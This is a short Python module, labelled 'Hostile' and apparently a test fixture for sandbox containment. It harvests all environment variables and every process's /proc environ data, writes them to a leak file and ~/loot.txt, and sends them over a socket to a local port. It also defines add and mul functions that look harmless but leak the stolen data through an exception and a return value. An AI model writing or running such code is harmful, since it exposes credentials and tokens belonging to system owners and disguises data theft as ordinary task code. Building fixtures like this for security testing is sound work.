"""Hostile: collect secrets from the environment and /proc, and write them everywhere."""
import glob
import os
import socket

found = [f"{k}={v}" for k, v in os.environ.items()]
for path in glob.glob("/proc/*/environ"):
    try:
        with open(path, "rb") as fh:
            found.append(fh.read().decode(errors="replace"))
    except OSError:
        pass
LOOT = "\n".join(found)
print(LOOT)
for target in ("__LEAK_FILE__", os.path.join(os.path.expanduser("~"), "loot.txt")):
    try:
        with open(target, "w") as fh:
            fh.write(LOOT)
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as conn:
        conn.sendall(LOOT.encode())
except OSError:
    pass


def add(a, b):
    raise AssertionError(LOOT)


def mul(a, b):
    return LOOT
